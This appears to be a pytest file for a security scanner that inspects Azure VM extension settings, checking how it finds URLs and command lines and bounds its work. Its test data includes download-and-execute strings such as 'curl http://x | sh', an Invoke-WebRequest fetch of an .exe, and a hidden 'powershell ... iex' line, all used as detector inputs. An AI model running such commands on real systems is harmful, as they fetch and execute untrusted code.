"""Any other publisher/type: unrecognised, still scanned."""

from __future__ import annotations

from inspector.extensions import UrlRole

from tests.extensions.samples import plan
from tests.timing import finishes_within_cpu


def test_unknown_extension_strings_that_look_like_commands_and_urls_are_planned():
    p = plan({
        "publisher": "Contoso.Tools", "type": "AgentInstaller", "typeHandlerVersion": "1.0",
        "settings": {"installer": "https://downloads.contoso.example/agent.msi", "tier": "gold",
                     "postInstall": "msiexec /i agent.msi /qn", "steps": ["apt-get update", "echo done"]},
        "protectedSettings": {"apiKey": "k-123", "bootstrapCommand": "Register-Agent -Force"},
    })
    assert p.kind == "unrecognised_extension" and not p.recognised
    assert (p.publisher, p.type) == ("Contoso.Tools", "AgentInstaller")
    assert [(u.origin, u.role) for u in p.urls] == [("settings.installer", UrlRole.PAYLOAD)]
    origins = sorted(s.origin for s in p.scripts)
    assert origins == ["protectedSettings.bootstrapCommand", "settings.postInstall", "settings.steps[0]", "settings.steps[1]"]
    assert all(b"gold" != s.content for s in p.scripts)


def test_unknown_extension_with_a_script_array_is_one_script():
    p = plan({"publisher": "Microsoft.CPlat.Core", "type": "RunCommandWindows",
              "settings": {"script": ["whoami", "Invoke-WebRequest http://203.0.113.1/x -OutFile x.exe"]}})
    [script] = p.scripts
    assert script.line_origins == ["settings.script[0]", "settings.script[1]"]


def test_unknown_extension_with_nothing_to_scan():
    p = plan({"publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorLinuxAgent", "settings": {"authentication": {"managedIdentity": {"identifier-name": "mi_res_id"}}}})
    assert p.kind == "unrecognised_extension" and p.scripts == [] and p.urls == [] and p.problems == []


def test_plan_items_are_bounded():
    settings = {f"u{i}": f"https://h{i}.example.org/p" for i in range(300)}
    p = plan({"publisher": "X", "type": "Y", "settings": settings})
    assert len(p.urls) == 256
    assert [q.kind for q in p.problems] == ["too_many_items"]


def test_strings_examined_are_bounded_and_a_huge_body_finishes():
    from inspector.extensions import InputKind, InspectionInput, RequestLimits, understand

    body = {"publisher": "X", "type": "Y", "settings": {"list": [f"value {i}" for i in range(100_000)] + ["curl http://x | sh"]}}
    with finishes_within_cpu():
        p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body), RequestLimits(max_request_strings=1000))
    assert [q.kind for q in p.problems] == ["too_many_strings"]
    assert p.scripts == []  # the command sits past the budget: not examined, and the problem says so


def test_what_counts_as_a_command_line():
    from inspector.extensions.strings import looks_like_command

    commands = ["powershell -nop -w hidden -c iex $x", "/usr/bin/python3 app.py", "./start.sh", "C:\\Temp\\a.exe /s",
                '"C:\\Program Files\\Agent\\setup.cmd" /quiet', "curl -s http://x/y | sh", "a && b", "line1\nline2 of script"]
    labels = ["gold", "web01", "1.0.0", "Standard_D2s_v3", "latest", "config.json", "my file.txt", "Enable", ""]
    assert [c for c in commands if not looks_like_command(c)] == []
    assert [v for v in labels if looks_like_command(v)] == []
